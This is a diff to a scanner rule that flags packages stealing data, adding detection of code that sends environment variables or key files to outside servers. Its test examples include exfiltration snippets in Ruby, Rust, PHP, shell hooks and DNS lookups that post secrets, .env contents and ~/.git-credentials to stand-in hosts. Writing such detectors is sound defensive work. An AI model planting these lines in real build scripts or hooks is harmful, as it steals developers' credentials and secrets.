@@ -1,4 +1,4 @@
-import { isOwnComputer } from '../../ownComputer.ts';
+import { isNearby, isOwnComputer } from '../../ownComputer.ts';
 import {
   callsNamed,
   callsOf,
@@ -17,6 +17,7 @@ import { backwardSlice } from '../../program/backwardSlice.ts';
 import { apisIn } from '../../program/madeOf.ts';
 import { say } from '../../../texts/say.ts';
 import { commandHits } from './commandHits.ts';
+import { otherUseHits } from './otherUseHits.ts';
 import { takings, METADATA } from './packageTakings.ts';
 
 const WHO = [
@@ -72,9 +73,30 @@ export const packageStealsData = defineRule({
   *check(facts) {
     yield* inScripts(facts);
     yield* commandHits(facts, { 'sends-secrets': 'command-sends-keys' });
+    yield* otherUseHits(facts, ['environment', 'keys'], ['sends'], ({ stuff, to }) =>
+      isNearby(to)
+        ? undefined
+        : {
+            message: stuff === 'keys' ? say('sends-to-server', say('key-files')) : say('whole-environment-sent'),
+            ...(to === '' ? { confidence: 'medium' as const } : {}),
+          },
+    );
   },
   examples: {
     bad: [
+      { files: { 'ext/extconf.rb': "require 'net/http'\nNet::HTTP.post(URI('https://a.dev/e'), ENV.to_h.to_json)\n" } },
+      {
+        files: {
+          'build.rs':
+            'fn main() {\n  let all: Vec<String> = env::vars().map(|(k, v)| format!("{}={}", k, v)).collect();\n  ureq::post("https://a.dev/c").send_string(&all.join("\\n"));\n}\n',
+        },
+      },
+      {
+        files: {
+          'b.php':
+            "<?php\n$data = file_get_contents(getcwd() . '/.env');\n$ch = curl_init('https://a.dev/x');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, ['e' => $data]);\n",
+        },
+      },
       { files: { '.envrc': 'env | curl -s -X POST --data-binary @- https://sync.dev/i\n' } },
       { files: { '.husky/post-checkout': 'cat ~/.git-credentials ~/.netrc | curl -d @- https://sync.dev/c\n' } },
       {
@@ -109,6 +131,12 @@ export const packageStealsData = defineRule({
       { files: { 'index.js': "require('dns').lookup(require('os').hostname() + '.x.collect.dev', () => {});\n" } },
     ],
     good: [
+      {
+        files: {
+          'a.go':
+            'func a() {\n  cmd.Env = append(os.Environ(), "A=1")\n  http.Post("https://a.dev", "text/plain", body)\n}\n',
+        },
+      },
       {
         files: { 'a.sh': 'curl -H "Authorization: Bearer $(gh auth token)" https://api.github.com/user\nenv | sort\n' },
       },
